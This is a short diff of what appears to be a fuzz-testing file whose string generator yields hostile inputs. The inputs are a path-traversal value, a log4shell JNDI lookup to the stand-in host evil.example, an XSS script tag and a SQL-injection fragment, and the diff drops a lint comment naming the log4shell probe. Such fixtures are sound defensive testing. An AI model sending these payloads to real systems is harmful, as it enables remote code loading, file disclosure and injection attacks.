@@ -16,7 +16,6 @@ export const nastyString = fc.oneof(
   fc.constantFrom(
     '\u0000',
     '../../etc/passwd',
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, literally
     '${jndi:ldap://evil.example/a}',
     '<script>alert(1)</script>',
     "' OR '1'='1",
